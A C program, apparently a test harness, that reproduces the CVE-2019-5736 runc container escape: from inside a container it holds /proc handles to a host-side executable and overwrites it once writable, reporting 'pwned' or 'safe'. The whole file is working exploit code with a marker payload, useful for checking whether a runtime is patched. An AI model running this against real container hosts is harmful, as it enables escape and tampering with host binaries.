// CVE-2019-5736 attacker, run as a container process (static, no libc beyond the basics): watch
// the container's /proc for a process whose exe is not ours, keep an O_PATH handle on that exe,
// and once the process is gone, reopen the handle for writing and overwrite the file. Prints
// "pwned" when a write landed, "safe: <why>" otherwise. It stops when /stop appears (one last
// round of write attempts first) or after argv[1] seconds.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  double until = now() + (argc > 1 ? atof(argv[1]) : 10);
  char self[4096], link[4096], path[64];
  ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
  if (n < 0) return 2;
  self[n] = 0;
  int held[64], nheld = 0, lasterr = 0, seen = 0;
  pid_t me = getpid();
  // Ready: the test starts the victim only after this line.
  printf("ready\n");
  fflush(stdout);
  for (int last = 0; !last;) {
    last = now() > until || access("/stop", F_OK) == 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == me) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      n = readlink(path, link, sizeof link - 1);
      if (n < 0) continue;
      link[n] = 0;
      if (!strcmp(link, self) || strstr(link, "busybox")) continue;
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      if (nheld < 64) held[nheld++] = fd; else close(fd);
      seen++;
    }
    if (d) closedir(d);
    // Every handle: try to open it for writing (ETXTBSY while some process still runs it).
    for (int i = 0; i < nheld; i++) {
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) { lasterr = errno; continue; }
      if (write(w, "pwned\n", 6) == 6) {
        printf("pwned\n");
        return 0;
      }
      lasterr = errno;
      close(w);
    }
  }
  printf("safe: %d handles, last error %s\n", seen, lasterr ? strerror(lasterr) : "none");
  return 0;
}
